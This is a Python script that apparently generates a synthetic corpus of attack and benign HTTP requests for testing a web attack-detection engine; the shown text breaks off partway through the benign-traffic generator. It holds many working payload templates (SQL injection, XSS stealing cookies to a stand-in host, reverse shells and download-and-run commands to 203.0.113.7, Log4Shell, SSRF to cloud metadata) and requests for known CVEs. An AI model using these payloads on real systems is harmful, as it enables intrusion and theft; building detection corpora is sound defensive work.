"""Write the self-written detection corpus (tests/data/detection/) from grammars and templates.

python bench/corpus_self.py [--out tests/data/detection]

Every request here is written by this script from public knowledge of how attacks and
ordinary traffic look: grammars of injection payloads (contexts, operators, evasions,
encodings), lists of probe paths, templates of real-looking site traffic (shops, blogs, APIs,
searches, logins, assets, browsers' headers). No line is copied from a payload collection or
a log. The output is deterministic (a seeded generator), one JSON request a line::

    {"method": "GET", "uri": "/search?q=...", "headers": {...}, "body": "..."}

``attacks/<category>.jsonl`` and ``benign/<source>.jsonl``; ``bench/detection.py`` reads them
by default and ``tests/unit/test_detection_corpus.py`` holds the engine to recorded floors.
"""

from __future__ import annotations

import argparse
import json
import random
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

Request = dict[str, Any]
OUT = Path(__file__).resolve().parents[1] / "tests" / "data" / "detection"
SCRIPTS = ["index.php", "search", "item", "view", "api/v1/find"]
STREETS = ["Main St.", "Rue de la Paix", "Königstraße", "High Street, Apt #4"]
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4"
    " Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4"
    " Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82"
    " Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36"
    " Edg/123.0.2420.81",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Opera/9.80 (Android; Opera Mini/7.5.33361/31.1448; U; en) Presto/2.8.119 Version/11.1010",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
]


def enc(text: str, safe: str = "") -> str:
    return quote(text, safe=safe)


class Writer:
    """Places a payload where attacks put it: a query argument, a form or JSON field, a cookie,
    a header or a path segment, and in the encodings clients use."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def place(self, payload: str, *, path: bool = False, headers: bool = False) -> Request:
        slots = ["query", "query", "query", "form", "json", "cookie"]
        if path:
            slots += ["path", "path"]
        if headers:
            slots += ["header"]
        slot = self.rng.choice(slots)
        name = self.rng.choice(["q", "id", "page", "file", "search", "name", "url", "lang", "item", "user", "redirect"])
        ua = self.rng.choice(BROWSERS)
        if slot == "query":
            value = enc(payload) if self.rng.random() < 0.7 else enc(payload, safe="'()*!/:,=")
            if self.rng.random() < 0.2:
                value = value.replace("%20", "+")
            return {
                "method": "GET",
                "uri": f"/{self.rng.choice(SCRIPTS)}?{name}={value}&ref=home",
                "headers": {"User-Agent": ua},
            }
        if slot == "form":
            return {
                "method": "POST",
                "uri": self.rng.choice(["/login", "/account/update", "/comment", "/contact"]),
                "headers": {"User-Agent": ua, "Content-Type": "application/x-www-form-urlencoded"},
                "body": f"{name}={enc(payload).replace('%20', '+')}&submit=Send",
            }
        if slot == "json":
            return {
                "method": "POST",
                "uri": "/api/items",
                "headers": {"User-Agent": ua, "Content-Type": "application/json"},
                "body": json.dumps({"title": "note", name: payload, "count": 3}),
            }
        if slot == "cookie":
            return {
                "method": "GET",
                "uri": "/home",
                "headers": {"User-Agent": ua, "Cookie": f"sid=a81f33c0; {name}={enc(payload)}"},
            }
        if slot == "header":
            return {"method": "GET", "uri": "/", "headers": {"User-Agent": payload}}
        segment = payload if payload.startswith("/") else "/files/" + payload
        return {"method": "GET", "uri": enc(segment, safe="/:;=@$,!*'()~"), "headers": {"User-Agent": ua}}

    def path(self, path: str) -> Request:
        headers = (
            {}
            if self.rng.random() < 0.5
            else {"User-Agent": self.rng.choice([*BROWSERS, "curl/8.4.0", "python-requests/2.31"])}
        )
        return {"method": "GET", "uri": enc(path, safe="/:;=@$,!*'()~?&%"), "headers": headers}


# -- attacks ------------------------------------------------------------------------------------------------


def sql_injection(rng: random.Random) -> Iterator[str]:
    prefixes = ["1", "-1", "0", "42", "x", "admin", "abc", "1)", "1))", "'", '"', "')", '")', "'))", "1'", "a'", 'x"']
    booleans = [
        "or 1=1",
        "or 1=1",
        "and 1=2",
        "or 'a'='a'",
        'or "x"="x"',
        "|| 1=1",
        "&& 2>1",
        "or 2 between 1 and 3",
        "or true",
        "xor 1",
        "or 1 like 1",
        "or 3-2=1",
        "and 1<>2",
    ]
    comments = ["--", "-- -", "#", "/*", ";--", "", ""]
    unions = [
        "union select null,null,null",
        "union all select 1,2,3",
        "union select username,password from users",
        "union select @@version,2",
        "union select table_name from information_schema.tables",
        "UNION ALL SELECT NULL,CONCAT(0x71,user(),0x71),NULL",
        "union/**/select/**/1,2",
        "/*!50000union*/ /*!50000select*/ 1,2,3",
        "uNiOn SeLeCt 1,version(),3",
        "union(select(1),(2))",
    ]
    blinds = [
        "and sleep(5)",
        "and benchmark(5000000,md5(1))",
        "and (select 1 from (select(sleep(5)))a)",
        "or pg_sleep(5)--",
        "; waitfor delay '0:0:5'--",
        "and extractvalue(1,concat(0x7e,version()))",
        "and updatexml(1,concat(0x7e,(select user())),1)",
        "and 1=(select count(*) from sysobjects)",
        "and ascii(substring((select password from users limit 1),1,1))>64",
        "and if(1=1,sleep(3),0)",
        "or dbms_pipe.receive_message('a',5)=1",
        "and (select load_file('/etc/passwd')) is not null",
    ]
    stacked = [
        "; drop table users--",
        "; exec xp_cmdshell 'whoami'--",
        "; insert into users values('x','y')--",
        "; shutdown--",
        "; declare @q varchar(99) set @q='x' exec(@q)--",
        "; update users set role='admin' where id=1--",
    ]
    orders = ["order by 1--", "order by 10#", "group by 3 having 1=1--", "order by 5 -- -"]
    for _ in range(320):
        kind = rng.random()
        prefix = rng.choice(prefixes)
        quote_char = (
            prefix[-1] if prefix[-1] in "'\"" else (prefix[0] if prefix[0] in "'\"" and prefix[-1] == ")" else "")
        )
        if kind < 0.35:
            body = rng.choice(booleans)
            tail = rng.choice(comments)
            if not tail and quote_char:
                body = body.rstrip("'\"") + f" {quote_char}" if rng.random() < 0.3 else body
            payload = f"{prefix} {body}{(' ' + tail) if tail else ''}"
        elif kind < 0.6:
            payload = f"{prefix} {rng.choice(unions)}{rng.choice([' --', '#', '-- -', ''])}"
        elif kind < 0.82:
            payload = f"{prefix} {rng.choice(blinds)}"
        elif kind < 0.92:
            payload = f"{prefix}{rng.choice(stacked)}"
        else:
            payload = f"{prefix} {rng.choice(orders)}"
        if rng.random() < 0.15:
            payload = payload.replace(" ", "/**/")
        if rng.random() < 0.1:
            payload = payload.replace(" ", "\t")
        yield payload


QUOTES = ['"', "'"]
JS_BREAKS = ["';", '";', "'-", '"-', "\\';", "');"]
JS_ENDS = ["//", ";//", "-'", '-"', "('"]


def xss(rng: random.Random) -> Iterator[str]:
    calls = [
        "alert(1)",
        "alert(document.domain)",
        "prompt(1)",
        "confirm`1`",
        "alert(String.fromCharCode(88,83,83))",
        "fetch('//x.example/'+document.cookie)",
        "eval(atob('YWxlcnQoMSk='))",
        "top['al'+'ert'](1)",
        "(alert)(1)",
        "window['ale'+'rt'](document.cookie)",
        "location='javascript:alert(1)'",
        "new Image().src='//x.example/?c='+document.cookie",
    ]
    tags = [
        "img src=x",
        "svg",
        "body",
        "input autofocus",
        "details open",
        "video src=x",
        "audio src=x",
        "iframe src=about:blank",
        "marquee",
        "select autofocus",
        "textarea autofocus",
        "x",
        "math",
        "object data=x",
        "keygen autofocus",
        "a href=#",
    ]
    events = [
        "onerror",
        "onload",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onbegin",
        "onpointerenter",
        "onanimationstart",
        "onclick",
        "onstart",
    ]
    breaks = ['">', "'>", '">', "</title>", "</textarea>", "</script>", "-->", '" ', "' ", ""]
    for _ in range(300):
        call = rng.choice(calls)
        kind = rng.random()
        if kind < 0.45:
            tag = rng.choice(tags)
            event = rng.choice(events)
            sep = rng.choice([" ", "/", "\n", "\t"])
            payload = f"{rng.choice(breaks)}<{tag}{sep}{event}={call}>"
        elif kind < 0.6:
            payload = f"{rng.choice(breaks)}<script>{call}</script>"
        elif kind < 0.7:
            payload = (
                rng.choice(
                    [
                        '<a href="javascript:',
                        '<iframe src="javascript:',
                        '<form action="javascript:',
                        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
                        '<a href="jav&#x09;ascript:',
                        '<embed src="javascript:',
                    ]
                )
                + call
                + '">x'
            )
        elif kind < 0.8:
            quote_char = rng.choice(QUOTES)
            payload = quote_char + " " + rng.choice(events) + "=" + call + " x=" + quote_char
        elif kind < 0.9:
            payload = rng.choice(JS_BREAKS) + call + rng.choice(JS_ENDS)
        else:
            payload = rng.choice(
                [
                    f"<svg/onload={call}>",
                    f'<img src=x onerror="{call}">',
                    f"<body onload={call}>",
                    f'<iframe srcdoc="<script>{call}</script>">',
                    f'<div style="width:expression({call})">',
                    f"<math><maction actiontype=statusline xlink:href=javascript:{call}>x",
                    f"<x onmouseenter={call}>hover",
                ]
            )
        if rng.random() < 0.12:
            payload = "".join(f"&#{ord(c)};" if c in "<>" else c for c in payload)
        if rng.random() < 0.08:
            payload = payload.replace("<", "\\u003c")
        yield payload


def command_injection(rng: random.Random) -> Iterator[str]:
    seps = [";", "|", "||", "&&", "&", "\n", "`", "$("]
    cmds = [
        "id",
        "whoami",
        "uname -a",
        "cat /etc/passwd",
        "ls -la /",
        "wget http://203.0.113.7/x.sh -O /tmp/x",
        "curl -s http://203.0.113.7/p|sh",
        "nc -e /bin/sh 203.0.113.7 4444",
        "ping -c 3 127.0.0.1",
        "sleep 10",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "echo vulnerable",
        "ifconfig",
        "ps aux",
        "cat /proc/self/environ",
        "python3 -c 'import os;os.system(\"id\")'",
        "perl -e 'print 1'",
        "chmod +x /tmp/x",
        "busybox nc 203.0.113.7 80",
    ]
    windows = [
        "dir c:\\",
        "type c:\\windows\\win.ini",
        "net user",
        "ipconfig /all",
        "systeminfo",
        "whoami /priv",
        "cmd /c whoami",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "powershell -c \"iex(new-object net.webclient).downloadstring('http://203.0.113.7/a')\"",
        "certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe",
        "tasklist",
        "net localgroup administrators",
    ]
    evasions = [
        lambda c: c.replace(" ", "${IFS}"),
        lambda c: c.replace(" ", "$IFS$9"),
        lambda c: "c'a't /e't'c/pa's'swd" if "passwd" in c else c,
        lambda c: c.replace("cat", "c\\at").replace("id", "i\\d"),
        lambda c: "/???/c?t /???/p??s??" if "cat" in c else c,
        lambda c: "{cat,/etc/passwd}" if "cat" in c else c,
        lambda c: c.replace("whoami", "w$@hoami"),
    ]
    for _ in range(260):
        prefix = rng.choice(["", "127.0.0.1", "x", "1", "test.jpg", "8.8.8.8", "a b"])
        if rng.random() < 0.25:
            cmd = rng.choice(windows)
            sep = rng.choice(["&", "&&", "|", "||", "\n"])
        else:
            cmd = rng.choice(cmds)
            sep = rng.choice(seps)
            if rng.random() < 0.3:
                cmd = rng.choice(evasions)(cmd)
        if sep == "$(":
            payload = f"{prefix}$({cmd})"
        elif sep == "`":
            payload = f"{prefix}`{cmd}`"
        else:
            payload = f"{prefix}{sep}{rng.choice(['', ' '])}{cmd}"
        yield payload


def path_traversal(rng: random.Random) -> Iterator[str]:
    targets = [
        "etc/passwd",
        "etc/shadow",
        "etc/hosts",
        "proc/self/environ",
        "windows/win.ini",
        "boot.ini",
        "windows/system32/drivers/etc/hosts",
        "var/log/apache2/access.log",
        "var/www/html/wp-config.php",
        "root/.ssh/id_rsa",
        "home/user/.bash_history",
        "WEB-INF/web.xml",
        "usr/local/etc/php.ini",
        ".env",
        "config/database.yml",
        "inetpub/wwwroot/web.config",
    ]
    steps = [
        "../",
        "..\\",
        "..%2f",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%5c",
        "%252e%252e%252f",
        "..%c0%af",
        "%c0%ae%c0%ae/",
        "....//",
        "..;/",
        "..%u2215",
        ".%2e/",
        "..%255c",
        "%uff0e%uff0e/",
        "..\\/",
    ]
    for _ in range(240):
        step = rng.choice(steps)
        depth = rng.randint(2, 9)
        target = rng.choice(targets)
        if step.endswith("\\") or "5c" in step:
            target = target.replace("/", "\\")
        payload = step * depth + target
        kind = rng.random()
        if kind < 0.12:
            payload = "/" + payload
        elif kind < 0.2:
            payload = payload + rng.choice(["%00", "%00.jpg", "\x00.png", "?"])
        elif kind < 0.28:
            payload = rng.choice(
                ["php://filter/convert.base64-encode/resource=", "file://", "php://filter/read=string.rot13/resource="]
            ) + rng.choice(["index.php", "/etc/passwd", "config.php", "../wp-config.php"])
        elif kind < 0.36:
            payload = rng.choice(
                [
                    "/etc/passwd",
                    "C:\\Windows\\win.ini",
                    "c:/boot.ini",
                    "/proc/self/cmdline",
                    "/var/log/nginx/error.log",
                    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240101.log",
                ]
            )
        yield payload


def other_injection(rng: random.Random) -> Iterator[str]:
    templates = [
        lambda: rng.choice(
            [
                "{{7*7}}",
                "{{7*'7'}}",
                "${7*7}",
                "#{7*7}",
                "<%= 7*7 %>",
                "{{config.items()}}",
                "{{''.__class__.__mro__[1].__subclasses__()}}",
                "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "{% import os %}{{os.system('id')}}",
                "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
                '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
                "*{T(java.lang.System).getenv()}",
                "@(7*7)",
                "{php}echo `id`;{/php}",
                "#set($x=7*7)${x}",
            ]
        ),
        lambda: rng.choice(
            [
                "${jndi:ldap://203.0.113.9:1389/a}",
                "${jndi:rmi://x.example/o}",
                "${${lower:j}ndi:${lower:l}dap://x.example/a}",
                "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}",
                "${jndi:dns://x.example/${env:USER}}",
                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}",
            ]
        ),
        lambda: rng.choice(
            [
                "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
                "#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
                "new java.lang.ProcessBuilder({'id'}).start()",
                'T(java.lang.Runtime).getRuntime().exec("calc")',
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
                "aced0005737200116a6176612e7574696c2e486173684d6170",
            ]
        ),
        lambda: rng.choice(
            [
                '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
                '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://x.example/e.dtd"> %p;]><r/>',
                '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></x>',
            ]
        ),
        lambda: rng.choice(["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "x)(|(password=*))", "*))%00"]),
        lambda: rng.choice(
            [
                "' or count(/*)=1 or 'a'='b",
                "' or name(/*)='root",
                "x' or 1=1 or 'x'='y",
                "'] | //user/*[contains(.,'admin')] | //x['",
            ]
        ),
        lambda: rng.choice(
            [
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
                "http://127.0.0.1:6379/",
                "http://localhost:8080/admin",
                "gopher://127.0.0.1:6379/_FLUSHALL",
                "http://[::1]/",
                "http://0x7f000001/",
                "http://2130706433/",
                "dict://127.0.0.1:11211/stats",
                "http://100.100.100.200/latest/meta-data/",
            ]
        ),
        lambda: rng.choice(
            ['<!--#exec cmd="id"-->', '<!--#include virtual="/etc/passwd"-->', '<esi:include src="http://x.example/"/>']
        ),
        lambda: rng.choice(
            [
                "<?php system($_GET['c']); ?>",
                "<?=`id`?>",
                "phpinfo();",
                "eval(base64_decode('cGhwaW5mbygpOw=='))",
                "system('id');",
                'O:8:"stdClass":1:{s:1:"a";s:2:"id";}',
                "call_user_func('system','id')",
                "$_GET['a']($_GET['b'])",
                "assert($_POST['x'])",
                "allow_url_include=1",
            ]
        ),
        lambda: rng.choice(
            [
                "__import__('os').system('id')",
                "require('child_process').exec('id')",
                "process.mainModule.require('child_process').execSync('id')",
                "os.popen('id').read()",
                "subprocess.check_output(['id'])",
                "Kernel.exec('id')",
                "this.constructor.constructor('return process')()",
            ]
        ),
        lambda: rng.choice(
            [
                "http://x.example/shell.txt?",
                "https://203.0.113.9/c99.txt?",
                "http://x.example/r57.txt%00",
                "\\\\203.0.113.9\\share\\x.php",
            ]
        ),
        lambda: rng.choice(
            ['{"$ne": null}', '{"$gt": ""}', "[$ne]=1", '{"$where": "sleep(5000)"}', '{"$regex": ".*"}']
        ),
        lambda: rng.choice(
            [
                "x%0d%0aSet-Cookie:%20admin=1",
                "x\r\nLocation: http://x.example",
                "a@b.c\r\nBcc: victim@example.org",
                "x\r\n\r\n<script>alert(1)</script>",
            ]
        ),
        lambda: rng.choice(
            ["__proto__[isAdmin]=true", "constructor[prototype][admin]=1", '{"__proto__": {"polluted": 1}}']
        ),
    ]
    for _ in range(300):
        yield rng.choice(templates)()


def probe_paths(words: list[str], rng: random.Random, count: int) -> Iterator[str]:
    for _ in range(count):
        yield rng.choice(words)


SENSITIVE = [
    "/.env",
    "/.env.local",
    "/.env.production",
    "/app/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.git/index",
    "/.svn/entries",
    "/.hg/hgrc",
    "/.htpasswd",
    "/.htaccess",
    "/.ssh/id_rsa",
    "/.aws/credentials",
    "/.docker/config.json",
    "/.npmrc",
    "/.bash_history",
    "/.DS_Store",
    "/.vscode/sftp.json",
    "/.idea/workspace.xml",
    "/wp-config.php.bak",
    "/wp-config.php~",
    "/wp-config.old",
    "/config.php.bak",
    "/index.php.orig",
    "/backup.zip",
    "/backup.tar.gz",
    "/site.rar",
    "/www.zip",
    "/db.sql",
    "/dump.sql.gz",
    "/database.sqlite",
    "/users.sql",
    "/backup/db.sql",
    "/example.com.zip",
    "/public_html.tar.gz",
    "/web.config",
    "/appsettings.json",
    "/config/database.yml",
    "/docker-compose.yml",
    "/id_rsa",
    "/server.key",
    "/private.pem",
    "/credentials.json",
    "/terraform.tfstate",
    "/.kube/config",
    "/storage/logs/laravel.log",
    "/error_log",
    "/logs/access.log",
    "/debug.log",
    "/npm-debug.log",
    "/phpinfo.php",
    "/.well-known/../.env",
    "/WEB-INF/web.xml",
    "/passwords.txt",
    "/admin/.htpasswd",
    "/.gitlab-ci.yml",
    "/composer.lock",
    "/.travis.yml",
    "/settings.py",
    "/local_settings.py",
    "/sftp-config.json",
    "/.ftpconfig",
    "/core.1234",
    "/heapdump",
    "/app.config",
    "/.user.ini",
]
ADMIN = [
    "/wp-login.php",
    "/wp-admin/",
    "/wp-admin/install.php",
    "/xmlrpc.php",
    "/wp-json/wp/v2/users",
    "/wp-content/plugins/revslider/",
    "/administrator/index.php",
    "/phpmyadmin/",
    "/phpMyAdmin/index.php",
    "/pma/",
    "/adminer.php",
    "/myadmin/",
    "/manager/html",
    "/host-manager/html",
    "/jmx-console/",
    "/web-console/",
    "/console/login/LoginForm.jsp",
    "/actuator/env",
    "/actuator/heapdump",
    "/server-status",
    "/server-info",
    "/nginx_status",
    "/solr/admin/",
    "/jenkins/script",
    "/script",
    "/_profiler/phpinfo",
    "/telescope/requests",
    "/admin.php",
    "/administrator/",
    "/admin/login.asp",
    "/adminpanel/",
    "/admincp/",
    "/typo3/",
    "/umbraco/",
    "/bitrix/admin/",
    "/components/com_users/",
    "/modules/mod_login/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci",
    "/webmin/",
    "/cpanel",
    "/plesk",
    "/elmah.axd",
    "/trace.axd",
    "/swagger-ui.html",
    "/v2/api-docs",
    "/jolokia/list",
]
SCANNER = [
    "/test.php",
    "/info.php",
    "/phpinfo.php",
    "/i.php",
    "/install.php",
    "/setup.php",
    "/upgrade.php",
    "/debug.php",
    "/shell.php",
    "/config.php",
    "/backup/",
    "/tmp/",
    "/install/",
    "/includes/",
    "/logs/",
    "/cgi-bin/test-cgi",
    "/cgi-bin/printenv",
    "/cgi-bin/php",
    "/scripts/root.exe",
    "/_vti_bin/shtml.dll",
    "/msadc/msadcs.dll",
    "/iisadmin/",
    "/crossdomain.xml",
    "/readme.html",
    "/CHANGELOG.txt",
    "/Thumbs.db",
    "/desktop.ini",
    "/.DS_Store",
    "/account.",
    "/default.asa",
    "/global.asa",
    "/test.cgi",
    "/admin.pl",
    "/x.php",
]
SHELLS = [
    "c99",
    "r57",
    "wso",
    "b374k",
    "alfa",
    "shell",
    "cmd",
    "up",
    "upload",
    "x",
    "1",
    "a",
    "indoxploit",
    "priv8",
    "webshell",
    "backdoor",
    "mini",
    "sym",
    "bypass",
    "marijuana",
]
SHELL_DIRS = ["", "/uploads", "/wp-content/uploads/2024/03", "/images", "/tmp", "/files", "/assets", "/media", "/cache"]
SHELL_EXTS = [".php", ".php5", ".phtml", ".asp", ".aspx", ".jsp", ".cfm", ".php.jpg"]


def web_shells(rng: random.Random) -> Iterator[Request]:
    for _ in range(200):
        path = rng.choice(SHELL_DIRS) + "/" + rng.choice(SHELLS) + rng.choice(SHELL_EXTS)
        request: Request = {"method": "GET", "uri": path}
        if rng.random() < 0.4:
            request["uri"] += "?" + rng.choice(
                ["cmd=id", "c=whoami", "cmd=uname+-a", "cmd=cat+/etc/passwd", "pass=x&cmd=ls+-la"]
            )
        yield request


def cve_exploits(rng: random.Random) -> Iterator[Request]:
    log4 = "${jndi:ldap://203.0.113.9:1389/Basic/Command/id}"
    exploits: list[Callable[[], Request]] = [
        lambda: {"method": "GET", "uri": "/", "headers": {"User-Agent": log4, "X-Api-Version": log4}},
        lambda: {
            "method": "GET",
            "uri": "/login",
            "headers": {rng.choice(["X-Forwarded-For", "Referer", "X-Api-Version", "Authorization"]): log4},
        },
        lambda: {
            "method": "POST",
            "uri": "/struts2-showcase/index.action",
            "headers": {
                "Content-Type": "%{(#_='multipart/form-data')"
                ".(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"
            },
        },
        lambda: {
            "method": "GET",
            "uri": "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime"
            "%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/",
        },
        lambda: {
            "method": "POST",
            "uri": "/",
            "headers": {"Content-Type": "application/x-www-form-urlencoded"},
            "body": "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
        },
        lambda: {
            "method": "GET",
            "uri": "/index.php?s=/Index/\\think\\app/invokefunction"
            "&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        },
        lambda: {
            "method": "POST",
            "uri": "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "body": "<?php echo md5('x'); ?>",
        },
        lambda: {
            "method": "POST",
            "uri": "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
            "headers": {"Content-Type": "application/x-www-form-urlencoded"},
            "body": "form_id=user_register_form&mail[#post_render][]=exec&mail[#markup]=id",
        },
        lambda: {"method": "GET", "uri": "/vpn/../vpns/cfg/smb.conf"},
        lambda: {"method": "GET", "uri": "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"},
        lambda: {
            "method": "POST",
            "uri": "/mgmt/tm/util/bash",
            "headers": {"Content-Type": "application/json", "X-F5-Auth-Token": ""},
            "body": json.dumps({"command": "run", "utilCmdArgs": "-c id"}),
        },
        lambda: {
            "method": "GET",
            "uri": "/autodiscover/autodiscover.json?@x.example/owa/?&Email=autodiscover/autodiscover.json%3F@x.example",
        },
        lambda: {
            "method": "POST",
            "uri": "/GponForm/diag_Form?images/",
            "body": "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.7/m`;sh+m",
        },
        lambda: {"method": "GET", "uri": "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"},
        lambda: {
            "method": "POST",
            "uri": "/_ignition/execute-solution",
            "headers": {"Content-Type": "application/json"},
            "body": json.dumps(
                {
                    "solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                    "parameters": {
                        "variableName": "x",
                        "viewFile": "php://filter/write=convert.base64-decode/resource=../storage/logs/laravel.log",
                    },
                }
            ),
        },
        lambda: {"method": "GET", "uri": "/public/plugins/alertlist/../../../../../../../../etc/passwd"},
        lambda: {"method": "GET", "uri": "/", "headers": {"User-Agent": "() { :; }; /bin/bash -c 'id'"}},
        lambda: {
            "method": "POST",
            "uri": "/functionRouter",
            "headers": {"spring.cloud.function.routing-expression": 'T(java.lang.Runtime).getRuntime().exec("id")'},
        },
        lambda: {"method": "GET", "uri": "/solr/admin/cores?action=CREATE&name=x&instanceDir=../../../../../../etc"},
        lambda: {"method": "POST", "uri": "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"},
    ]
    for _ in range(140):
        yield rng.choice(exploits)()


# -- ordinary traffic ---------------------------------------------------------------------------------------

WORDS = str.split(
    "hiking boots winter jacket rain coat kids shoes running trail size 42 blue red black leather wool cotton linen "
    "organic coffee beans espresso machine grinder tea green sencha cookbook vegan recipes pasta tomato sauce "
    "garden hose lawn mower drill bits screwdriver set hammer saw paint brush ladder light bulb lamp desk chair "
    "laptop stand usb c cable charger headphones wireless mouse keyboard monitor 27 inch hdmi adapter phone case "
    "bicycle helmet tent sleeping bag backpack 40l water bottle yoga mat dumbbells running watch sunglasses"
)
PHRASES = [
    "rock and roll",
    "Tom's or Jerry's",
    "O'Reilly books",
    "it's 5 o'clock somewhere",
    "don't stop believing",
    "select a size",
    "how to select a union representative",
    "drop table tennis",
    "union jack cushion",
    "C++ and C# tutorial",
    "what is 1+1?",
    "a<b in python",
    "x = 1 or 2",
    "Q&A session",
    "R&D budget",
    "AT&T prepaid",
    "Ben & Jerry's",
    "PowerShell tutorial",
    "Windows PowerShell execution policy",
    "$(document).ready() jquery",
    "javascript: the good parts",
    "cat /etc/hosts explained",
    "rm -rf meaning",
    "sudo apt install",
    "100% cotton t-shirt",
    "50% off sale",
    "5' 11\" tall",
    "Guns N' Roses tour",
    "L'Oréal shampoo",
    "café crème",
    "naïve bayes",
    "São Paulo weather",
    "München hotels",
    "東京 ラーメン",
    "Москва отели",
    "смартфон купить",
    "أفضل مطعم",
    "Dungeons & Dragons",
    "fish 'n' chips",
    '"exact phrase" search',
    "order by price",
    "delete account",
    "update drivers",
    "insert coin",
    "exec summary template",
    "script writing course",
    "alert dialog design",
    "select statements explained",
    "where is my order",
    "and then there were none",
    "or else",
    "copy & paste",
    "me & you",
    "salt & pepper",
    "cut & paste",
    "rain; wind; snow",
    "Hello; world",
    "kids | toys",
    "Home | Contact",
    "1/2 cup sugar",
    "10:30 am",
    "2024-05-01",
    "+1 (555) 123-4567",
    "jo@example.org",
    "C:\\Users\\me\\Documents question",
    "hashtag #summer",
    "price < 100",
    "size > 10",
    "who is online",
    "time for tea",
    "echo dot",
    "id card renewal",
    "date night ideas",
    "find my phone",
    "ping pong table",
    "net income formula",
    "host a party",
]


def benign_shop(rng: random.Random) -> Iterator[Request]:
    for _ in range(700):
        ua = rng.choice(BROWSERS)
        kind = rng.random()
        headers = {
            "User-Agent": ua,
            "Accept-Language": rng.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9"]),
            "Cookie": f"sid={rng.getrandbits(64):016x}; _ga=GA1.2.{rng.getrandbits(30)}.{rng.getrandbits(30)}; "
            "consent=%7B%22ads%22%3Afalse%2C%22stats%22%3Atrue%7D",
        }
        if rng.random() < 0.5:
            headers["Referer"] = rng.choice(
                [
                    "https://shop.example.com/",
                    "https://www.google.com/",
                    "https://shop.example.com/category/shoes?page=2",
                    "https://duckduckgo.com/?q=hiking+boots",
                ]
            )
        if kind < 0.35:
            words = " ".join(rng.sample(WORDS, rng.randint(1, 4)))
            q = rng.choice([words, rng.choice(PHRASES)])
            sort = rng.choice(["price", "relevance", "newest"])
            uri = f"/search?q={enc(q).replace('%20', '+')}&sort={sort}&page={rng.randint(1, 9)}"
            yield {"method": "GET", "uri": uri, "headers": headers}
        elif kind < 0.55:
            slug = "-".join(rng.sample(WORDS, 3))
            yield {
                "method": "GET",
                "uri": f"/product/{slug}-{rng.randint(100, 99999)}?color={rng.choice(['red', 'blue', 'black'])}"
                f"&size={rng.randint(36, 46)}",
                "headers": headers,
            }
        elif kind < 0.7:
            body = (
